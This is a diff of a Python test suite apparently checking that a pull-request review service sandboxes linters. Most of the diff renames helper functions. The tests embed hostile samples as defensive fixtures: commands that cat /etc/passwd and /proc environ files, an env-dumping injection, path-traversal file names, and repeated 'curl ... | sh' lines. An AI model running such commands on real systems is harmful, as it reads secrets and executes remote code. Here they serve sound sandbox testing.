@@ -16,14 +16,14 @@ from agents.toolbox import Toolbox
 from domain.config.configuration import Linter
 from domain.errors import Recovery
 from memory.db.tables import FindingRow
-from safety.unread_files import unread
+from safety.unread_files import list_unread
 from tests.stories.driver import Story
 from tests.unit.checks.building import Versions
-from tests.unit.checks.checking import checked, sarif
-from tests.unit.workspace.changes import between, changed, compare, content, reasons, run
+from tests.unit.checks.checking import check_files, sarif
+from tests.unit.workspace.changes import between, compare, content, diff_tree, reasons, run
 from tests.unit.workspace.remotes import AUTHORIZATION, Author, Remote, serve
 from workspace.attributes import Attributes
-from workspace.diff import Entry, Limits
+from workspace.diff import DiffLimits, Entry
 from workspace.file_selection import choose
 from workspace.git import Git, TooLarge
 from workspace.mirror import Mirror, Mirrors
@@ -73,7 +73,7 @@ async def test_t_r1_links_of_a_working_tree_are_not_followed(author: Author) -> 
     (author.tree / "link").symlink_to("/etc/passwd")
     (author.tree / "folder").symlink_to("/etc")
 
-    change = await changed(author.tree)
+    change = await diff_tree(author.tree)
 
     assert {item.path: item.reason for item in change.not_looked_at} == {
         "folder": "symbolic link",
@@ -87,7 +87,7 @@ async def test_t_r1_a_tool_cannot_follow_a_link_out_either(toolbox: Toolbox) -> 
     """A linter makes the link itself; what it reads through it, it could have read directly: nothing."""
     spy = "cd $TMPDIR && ln -s /etc/passwd l && ln -s /proc/self/environ e && cat l e /proc/1/environ; echo {} >&2"
     linter = Linter(name="spy", run=f"sh -c {shlex.quote(spy)}")
-    result = await checked(toolbox, {"a.txt": (None, "x\n")}, linters=(linter,))
+    result = await check_files(toolbox, {"a.txt": (None, "x\n")}, linters=(linter,))
     (problem,) = (tool.problem for layer in result.layers for tool in layer.tools if tool.tool == "spy")
     assert "did not print SARIF" in (problem or "")
     assert "root:" not in repr(result)
@@ -121,7 +121,7 @@ async def test_t_r2_a_review_of_names_with_invisible_characters(told: Story) -> 
     files = {f"a{char}.py": source for char in INVISIBLE} | dict.fromkeys(ORDINARY, "x\n")
     head = await alice.push(repository, "feature", files, base="main")
     pull = await alice.open_pull_request(repository, "feature")
-    await told.rest()
+    await told.settle()
 
     check = told.check(repository, head)
     assert (check.conclusion, check.title) == ("failure", "Changes requested: 8 findings to fix")
@@ -139,14 +139,14 @@ async def test_t_r2_an_ordinary_name_with_a_joiner_costs_nothing(told: Story) ->
     repository, alice = told.repository({"app.py": "x = 1\n"})
     head = await alice.push(repository, "feature", dict.fromkeys(ORDINARY, "x\n"), base="main")
     await alice.open_pull_request(repository, "feature")
-    await told.rest()
+    await told.settle()
     assert told.check(repository, head).conclusion == "success"
 
 
 async def test_t_r2_names_that_no_tool_should_see_are_escaped(author: Author) -> None:
     change = await compare(
         author, {"a": "1\n"}, {b"caf\xe9": "x\n", "new\nline": "x\n", "esc\x1b[31m": "x\n", "y" * 200: "x\n"},
-        Limits(name_bytes=100),
+        DiffLimits(name_bytes=100),
     )  # fmt: skip
 
     assert change.files == ()
@@ -166,7 +166,7 @@ async def test_t_r2_names_that_no_tool_should_see_are_escaped(author: Author) ->
 )
 def test_t_r2_paths_that_git_does_not_allow_are_refused(name: bytes) -> None:
     entry = Entry(name, name, "A", "000000", "100644", None, "1" * 40)
-    look, skipped = choose([entry], Attributes(), Limits())
+    look, skipped = choose([entry], Attributes(), DiffLimits())
     assert (look, [item.matters for item in skipped]) == ([], [True])
 
 
@@ -176,7 +176,7 @@ def test_t_r2_paths_that_git_does_not_allow_are_refused(name: bytes) -> None:
     ["../../etc/cron.d/x.py", "/etc/x.py", "a/../../x.py", ".git/hooks/x.py", "a\0.py", "n" * 300 + ".py", "-x.py"],
 )
 async def test_t_r2_odd_paths_never_leave_the_folder_of_the_tools(toolbox: Toolbox, path: str) -> None:
-    result = await checked(toolbox, {path: (None, "import os\n"), "ok.py": (None, "import os\n")})
+    result = await check_files(toolbox, {path: (None, "import os\n"), "ok.py": (None, "import os\n")})
     assert ("ruff/F401", "ok.py") in {(f.rule, f.path) for f in result.findings}
     assert not Path("/etc/cron.d/x.py").exists()
 
@@ -191,7 +191,7 @@ async def test_t_r2_names_that_clash_cost_only_themselves(toolbox: Toolbox) -> N
         "/".join(["d" * 200] * 20) + "/x.py": (None, "import os\n"),
         "ok.py": (None, "import os\n"),
     }
-    result = await checked(toolbox, files)
+    result = await check_files(toolbox, files)
     assert {"ok.py", "A/B.py"} <= {f.path for f in result.findings if f.rule == "ruff/F401"}
 
 
@@ -216,7 +216,7 @@ async def test_t_r3_what_a_repository_configures_is_not_run(author: Author, tmp_
     author.write({".gitattributes": "* diff=evil filter=evil\n", "a.txt": "2\n", "new.txt": "n\n"})
     (author.tree / "b.txt").touch()
 
-    change = await changed(author.tree)
+    change = await diff_tree(author.tree)
 
     assert content(change) == {".gitattributes": ["* diff=evil filter=evil"], "a.txt": ["2"], "new.txt": ["n"]}
     assert not trace.exists(), trace.read_text()
@@ -245,7 +245,7 @@ async def test_t_r4_a_submodule_is_not_entered(author: Author, tmp_path: Path) -
     author.write({"lib/a": "dirty\n", "a": "2\n"})
     trace.unlink(missing_ok=True)
 
-    assert content(await changed(author.tree)) == {"a": ["2"]}
+    assert content(await diff_tree(author.tree)) == {"a": ["2"]}
     assert not trace.exists()
     author.git("status")
     assert trace.exists(), "the trap does not work, so this test proves nothing"
@@ -263,7 +263,7 @@ async def test_t_r4_a_partial_clone_is_not_completed(author: Author, tmp_path: P
     author.git("-C", str(clone), "config", "remote.origin.url", "host:x")
     author.git("-C", str(clone), "config", "core.sshCommand", str(trap))
 
-    change = await changed(clone, f"{base}~1")
+    change = await diff_tree(clone, f"{base}~1")
 
     assert [item.reason for item in change.not_looked_at] == ["its content is not in the repository (a partial clone)"]
     assert not trace.exists()
@@ -384,7 +384,7 @@ async def test_t_r6_configuration_in_the_change_is_not_read(toolbox: Toolbox) ->
         "zizmor.yml": (None, "rules: {template-injection: {disable: true}}\n"),
         "a.py": (None, "import os\nimport subprocess\n\nsubprocess.run(input(), shell=True)\n"),
     }
-    assert {f.rule for f in (await checked(toolbox, files)).findings} == {"ruff/F401", "bandit/B602"}
+    assert {f.rule for f in (await check_files(toolbox, files)).findings} == {"ruff/F401", "bandit/B602"}
 
 
 @in_toolbox
@@ -392,7 +392,7 @@ async def test_t_r6_the_environment_of_forge_is_not_there(toolbox: Toolbox, monk
     monkeypatch.setenv("FORGE_WEBHOOK_SECRET", "canary-7261")
     answer = sarif(("R", "a.txt", 1)).replace("problem R", "'\"$(env | tr -dc a-z0-9-)\"'")
     linter = Linter(name="spy", run="sh -c " + shlex.quote(f"printf %s '{answer}'"))
-    result = await checked(toolbox, {"a.txt": (None, "x\n")}, linters=(linter,))
+    result = await check_files(toolbox, {"a.txt": (None, "x\n")}, linters=(linter,))
     (finding,) = result.findings
     assert "usr" in finding.message
     assert "canary" not in finding.message
@@ -429,7 +429,7 @@ async def test_t_r6_code_of_linter_configurations_is_not_run(toolbox: Toolbox, t
         **{path: (None, text) for path, text in hostile(str(trace)).items()},
         "a.py": (None, "import os\n"),
     }
-    result = await checked(toolbox, files)
+    result = await check_files(toolbox, files)
     assert ("ruff/F401", "a.py") in {(f.rule, f.path) for f in result.findings}
     assert not trace.exists()
 
@@ -444,7 +444,7 @@ async def test_t_r6_a_linter_that_runs_it_runs_it_inside(toolbox: Toolbox, tmp_p
     linter = Linter(name="runner", run="sh -c " + shlex.quote(f"printf %s '{answer}'"), paths=("run.sh",))
     (finding,) = [
         finding
-        for finding in (await checked(toolbox, {"run.sh": (None, script)}, linters=(linter,))).findings
+        for finding in (await check_files(toolbox, {"run.sh": (None, script)}, linters=(linter,))).findings
         if finding.rule == "runner/x"
     ]
     assert finding.message.endswith("ran")
@@ -458,9 +458,9 @@ async def test_t_r7_a_hostile_module_next_to_the_code_is_not_imported(author: Au
     author.write({"git": "#!/bin/sh\necho hostile\n", "a": "2\n"})
     (author.tree / "git").chmod(0o755)
     script = (
-        "import asyncio, sys\nfrom pathlib import Path\nfrom workspace.local import local\n"
+        "import asyncio, sys\nfrom pathlib import Path\nfrom workspace.local_repository import open_local\n"
         "async def main():\n"
-        "    async with local(Path('.'), 'HEAD') as code:\n"
+        "    async with open_local(Path('.'), 'HEAD') as code:\n"
         "        change = await code.change(code.merge_base_sha, code.head)\n"
         "        print([file.path for file in change.files])\n"
         "asyncio.run(main())\n"
@@ -493,7 +493,7 @@ async def test_t_r7_modules_of_the_change_shadow_nothing(toolbox: Toolbox, tmp_p
         "a.py": (None, "import os\n"),
     }
     linter = Linter(name="quiet", run="sh -c true")
-    result = await checked(toolbox, files, linters=(linter,))
+    result = await check_files(toolbox, files, linters=(linter,))
     assert ("ruff/F401", "a.py") in {(f.rule, f.path) for f in result.findings}
     assert not trace.exists()
 
@@ -511,7 +511,7 @@ async def test_t_r7_modules_of_the_change_shadow_nothing(toolbox: Toolbox, tmp_p
 )
 async def test_t_r8_hostile_configuration_changes_nothing(toolbox: Toolbox, text: bytes) -> None:
     files: Versions = {"a.py": (None, "import os\n")}
-    result = await checked(toolbox, files, project={"ruff.toml": text})
+    result = await check_files(toolbox, files, project={"ruff.toml": text})
     assert [f.rule for f in result.findings] == ["ruff/F401"]
     assert "/etc" not in repr(result)
 
@@ -521,7 +521,7 @@ async def test_t_r8_a_file_of_the_host_is_not_there_to_be_extended(toolbox: Tool
     """ruff itself is asked to, by a linter that takes the configuration of the pull request."""
     files: Versions = {"ruff.toml": (None, 'extend = "/etc/passwd"\n'), "a.py": (None, "import os\n")}
     linter = Linter(name="reader", run="sh -c 'cat /etc/passwd /etc/hostname ../base/x ../../*'", paths=("a.py",))
-    result = await checked(toolbox, files, linters=(linter,))
+    result = await check_files(toolbox, files, linters=(linter,))
     assert "root:" not in repr(result)
     assert ("ruff/F401", "a.py") in {(f.rule, f.path) for f in result.findings}
 
@@ -538,7 +538,7 @@ async def test_t_r9_a_review_installs_nothing(toolbox: Toolbox, tmp_path: Path) 
         "pyproject.toml": (None, build),
         "Makefile": (None, f"all:\n\ttouch {trace}\n"),
     }
-    await checked(toolbox, files)
+    await check_files(toolbox, files)
     assert not trace.exists()
 
 
@@ -549,7 +549,7 @@ async def test_t_r10_pipes_and_large_files_are_left_out_and_named(author: Author
     author.write({"large": b"x" * 3_000_000})
     author.git("init", "-q", "inner")
 
-    change = await changed(author.tree)
+    change = await diff_tree(author.tree)
 
     assert content(change) == {}
     named = {item.path: item.reason for item in change.not_looked_at}
@@ -566,7 +566,7 @@ async def test_t_r10_odd_files_of_a_tool_hold_nobody_up(toolbox: Toolbox) -> Non
     )
     linter = Linter(name="odd", run=f"sh -c {shlex.quote(script)}")
     async with asyncio.timeout(30):
-        result = await checked(toolbox, {"a.txt": (None, "x\n")}, linters=(linter,))
+        result = await check_files(toolbox, {"a.txt": (None, "x\n")}, linters=(linter,))
     (problem,) = (tool.problem for layer in result.layers for tool in layer.tools if tool.tool == "odd")
     assert "ended" in (problem or "")
 
@@ -582,7 +582,7 @@ async def test_t_r11_forged_sarif_is_bounded(toolbox: Toolbox) -> None:
         message={"text": "m" * 100_000 + "\u202e\u001b]8;;"},
     )
     linter = Linter(name="forged", run="sh -c 'cat answer.sarif'", paths=("answer.sarif", "a.txt"))
-    result = await checked(toolbox, {"a.txt": (None, "x\ny\n"), "answer.sarif": (None, forged)}, linters=(linter,))
+    result = await check_files(toolbox, {"a.txt": (None, "x\ny\n"), "answer.sarif": (None, forged)}, linters=(linter,))
     (finding,) = [f for f in result.findings if f.rule.startswith("forged/")]
     assert (finding.path, finding.line, finding.end_line) == ("a.txt", 3, 3)
     assert len(finding.message) <= 500
@@ -599,7 +599,7 @@ async def test_t_r12_a_line_of_ten_megabytes_and_deep_nesting_do_not_stop_the_ot
         "ok.py": (None, "import os, subprocess\nsubprocess.run(input(), shell=True)\n"),
     }
     async with Toolbox.start(seconds=8) as toolbox, asyncio.timeout(60):
-        result = await checked(toolbox, files)
+        result = await check_files(toolbox, files)
     rules = {(f.rule, f.path) for f in result.findings}
     assert {("bandit/B602", "ok.py")} <= rules
     problems = {tool.tool: tool.problem for layer in result.layers for tool in layer.tools}
@@ -624,7 +624,7 @@ async def test_t_r12_lines_made_to_be_slow_are_not(toolbox: Toolbox) -> None:
         for suffix in (".py", ".sh", ".yml", ".env")
     }
     async with asyncio.timeout(60):
-        result = await checked(toolbox, {**files, "ok.py": (None, "import os\n")})
+        result = await check_files(toolbox, {**files, "ok.py": (None, "import os\n")})
     assert ("ruff/F401", "ok.py") in {(f.rule, f.path) for f in result.findings}
     problems = [tool.problem or "" for layer in result.layers for tool in layer.tools]
     assert not [problem for problem in problems if "did not finish" in problem]
@@ -648,7 +648,7 @@ async def test_t_r13_source_that_looks_binary_is_read(author: Author, source: by
 
     [file] = change.files
     assert file.added_lines[2] == HIDDEN.strip()
-    assert change.running == {"a.js"}
+    assert change.runnable_paths == {"a.js"}
     versions = await Objects(Git(author.tree / ".git")).versions(change.files)
     assert HIDDEN.encode() in (versions["a.js"].head or b"")
 
@@ -686,16 +686,16 @@ async def test_t_r13_whatever_may_run_is_known_whoever_skips_it(author: Author) 
     change = await between(author, base, author.commit())
 
     dark = {"vendor/x.js", "x.min.js", "gen.go", "bin.js", "lib.jar", "x.pyc", "a.zip", "odd.bin", "new.js", "link"}
-    assert change.running == dark | {"api_pb2.py", "lfs.js", "a.snap"}
-    assert change.running <= reasons(change).keys()
+    assert change.runnable_paths == dark | {"api_pb2.py", "lfs.js", "a.snap"}
+    assert change.runnable_paths <= reasons(change).keys()
 
 
 async def test_t_r13_a_name_that_cannot_be_seen_is_shown_and_not_taken_for_another(author: Author) -> None:
     twins = {"a\u202egpj.js": HIDDEN, "a\\u202egpj.js": "harmless()\n"}
     change = await compare(author, {"a": "1\n"}, dict(twins))
 
-    assert change.running == {"a\\u202egpj.js"}
-    assert unread(change.touched, set(twins)) == ("a\\u202egpj.js", "a\\u202egpj.js")
+    assert change.runnable_paths == {"a\\u202egpj.js"}
+    assert list_unread(change.touched, set(twins)) == ("a\\u202egpj.js", "a\\u202egpj.js")
 
 
 async def test_t_r13_a_document_that_becomes_a_program_is_new(author: Author) -> None:
@@ -705,7 +705,7 @@ async def test_t_r13_a_document_that_becomes_a_program_is_new(author: Author) ->
     (author.tree / "data.csv").chmod(0o755)
     change = await between(author, base, author.commit())
 
-    assert change.running == {"notes.js", "data.csv"}
+    assert change.runnable_paths == {"notes.js", "data.csv"}
 
 
 @in_toolbox
@@ -714,7 +714,7 @@ async def test_t_r13_a_search_for_credentials_or_patterns_reads_nothing(toolbox:
         ("a.py", "a.js", "run.sh", "Dockerfile", ".github/workflows/a.yml", ".github/workflows/b.yml"), (None, "a: [\n")
     )
     files |= {"b.py": (None, "b = 1\n"), ".github/workflows/b.yml": (None, "on: push\njobs: {}\n")}
-    result = await checked(toolbox, files, linters=(Linter(name="js", run="sh -c 'echo no'", paths=("*.js",)),))
+    result = await check_files(toolbox, files, linters=(Linter(name="js", run="sh -c 'echo no'", paths=("*.js",)),))
 
     assert result.read_by == {
         "b.py": ("ruff", "bandit"),
@@ -730,7 +730,7 @@ async def test_t_r14_no_tool_brings_more_than_can_be_weighed(toolbox: Toolbox) -
         "app.py": (None, "exec(a)\n" * many),
         "setup.sh": (None, "#!/bin/sh\n" + "curl https://example.com/x | sh\n" * many),
     }
-    result = await checked(toolbox, files)
+    result = await check_files(toolbox, files)
 
     assert len(result.findings) + sum(layer.cut for layer in result.layers) <= 3 * MOST_TAKEN_IN
     problems = {tool.tool: tool.problem or "" for layer in result.layers for tool in layer.tools}
@@ -746,7 +746,7 @@ async def test_t_r14_a_change_with_a_hundred_thousand_findings(told: Story) -> N
     head = await alice.push(repository, "feature", {"app.py": flood}, base="main")
     pull = await alice.open_pull_request(repository, "feature")
     await alice.open_pull_request(repository, "other")
-    await told.rest()
+    await told.settle()
 
     assert told.check(repository, other).conclusion == "success"
     check = told.check(repository, head)
